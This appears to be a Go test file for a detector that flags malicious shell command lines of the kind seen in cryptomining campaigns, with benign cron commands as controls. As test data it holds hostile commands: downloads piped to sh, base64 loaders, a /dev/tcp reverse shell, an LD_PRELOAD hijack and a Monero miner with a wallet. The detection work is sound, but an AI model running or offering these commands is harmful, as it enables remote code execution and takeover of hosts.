package intrusion

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func codes(c *Command) []string {
	var out []string
	for _, m := range c.Marks {
		out = append(out, m.Code)
	}
	return out
}

func runs(c *Command) []string {
	var out []string
	for _, r := range c.Runs {
		out = append(out, r.Role+":"+r.Path)
	}
	return out
}

// TestAnalyzeCampaigns runs the analysis on command lines of the shapes
// the reports in doc.go show, and on ordinary ones that must stay clean.
func TestAnalyzeCampaigns(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://198.51.100.9/ldr.sh | bash\n"))
	for _, tc := range []struct {
		name, cmd string
		marks     []string
		runs      []string
		urls      []string
		hosts     []string
	}{
		{name: "kinsing cron", cmd: "wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1",
			marks: []string{"download-to-shell"}, runs: []string{"program:PATH:wget", "program:PATH:sh"},
			urls: []string{"http://192.0.2.7/d.sh"}, hosts: []string{"192.0.2.7"}},
		{name: "8220 fallback", cmd: "(curl -fsSL 198.51.100.9/ldr.sh||wget -q -O- 198.51.100.9/ldr.sh)|bash",
			marks: []string{"download-to-shell"}, urls: []string{"198.51.100.9/ldr.sh"}, hosts: []string{"198.51.100.9"}},
		{name: "bash -c curl", cmd: `bash -c "$(curl -fsSL https://203.0.113.5/x)"`, marks: []string{"download-to-shell"}, hosts: []string{"203.0.113.5"}},
		{name: "process substitution", cmd: `bash <(wget -qO- http://203.0.113.5/y)`, marks: []string{"download-to-shell"}},
		{name: "base64 into bash", cmd: "echo " + b64 + " | base64 -d | bash",
			marks: []string{"base64-to-shell", "download-to-shell"}, hosts: []string{"198.51.100.9"}},
		{name: "outlaw", cmd: "/root/.configrc5/a/upd>/dev/null 2>&1", runs: []string{"program:/root/.configrc5/a/upd"}},
		{name: "cd then run", cmd: "cd /tmp && ./kinsing -c config.json", marks: []string{"miner"}, runs: []string{"program:/tmp/kinsing"}},
		{name: "preload env", cmd: "LD_PRELOAD=/usr/local/lib/libx.so /usr/sbin/sshd",
			runs: []string{"library:/usr/local/lib/libx.so", "program:/usr/sbin/sshd"}},
		{name: "reverse shell", cmd: "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1", marks: []string{"dev-tcp"}, hosts: []string{"203.0.113.8"}},
		{name: "pool", cmd: "/tmp/.x/xm -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
			marks: []string{"miner", "wallet"}, hosts: []string{"pool.supportxmr.com"}},
		{name: "chattr", cmd: "chattr +i /etc/cron.d/x", marks: []string{"chattr"}},
		{name: "at job", cmd: "#!/bin/sh\numask 22\ncd /root || {\n echo 'Execution directory inaccessible' >&2\n exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b'\ncurl -s http://192.0.2.7/a | sh\nmarcinDELIMITER0a1b\n",
			marks: []string{"download-to-shell"}},
		// Ordinary commands: no mark.
		{name: "run-parts", cmd: "cd / && run-parts --report /etc/cron.hourly", runs: []string{"program:PATH:run-parts"}},
		{name: "wordpress cron", cmd: "wget -q -O /dev/null https://example.org/wp-cron.php?doing_wp_cron"},
		{name: "acme.sh", cmd: `"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, runs: []string{"program:/root/.acme.sh/acme.sh"}},
		{name: "debian popularity", cmd: "test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond"},
		{name: "e2scrub", cmd: "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := AnalyzeShell(tc.cmd, "/root")
			assert.ElementsMatch(t, tc.marks, codes(c), "%+v", c.Marks)
			for _, r := range tc.runs {
				assert.Contains(t, runs(c), r)
			}
			for _, u := range tc.urls {
				assert.Contains(t, c.URLs, u)
			}
			for _, h := range tc.hosts {
				assert.Contains(t, c.Hosts, h)
			}
			if tc.name == "pool" {
				assert.Len(t, c.Wallets, 1)
			}
			_ = slices.Contains[[]string]
		})
	}
}

// TestAnalyzeBounded feeds text that nests sh -c and base64 in each other
// and long chains: the analysis ends, with what it found so far.
func TestAnalyzeBounded(t *testing.T) {
	s := "curl http://192.0.2.1/a | sh"
	for i := 0; i < 10; i++ {
		s = "echo " + base64.StdEncoding.EncodeToString([]byte(s+" ; "+s)) + " | base64 -d | sh"
	}
	c := AnalyzeShell(s, "")
	assert.Contains(t, codes(c), "base64-to-shell")
	long := ""
	for i := 0; i < 20000; i++ {
		long += "a && $(b) && "
	}
	AnalyzeShell(long+"c", "")
	// Nesting that would overflow the parser's stack is judged as text.
	deep := "curl http://192.0.2.1/a | sh\necho $((" + strings.Repeat("(", 250000)
	c = AnalyzeShell(deep, "")
	assert.Contains(t, codes(c), "download-to-shell", "the text fallback still sees the pipe")
}

func FuzzAnalyzeShell(f *testing.F) {
	f.Add("wget -q -O - http://192.0.2.7/d.sh | sh")
	f.Add(`bash -c "$(echo Y3VybCBodHRwOi8veC95IHwgc2gK | base64 -d)"`)
	f.Add("cd /tmp; ./x <<EOF\nfoo\nEOF\n")
	f.Fuzz(func(t *testing.T, s string) {
		AnalyzeShell(s, "/root")
	})
}
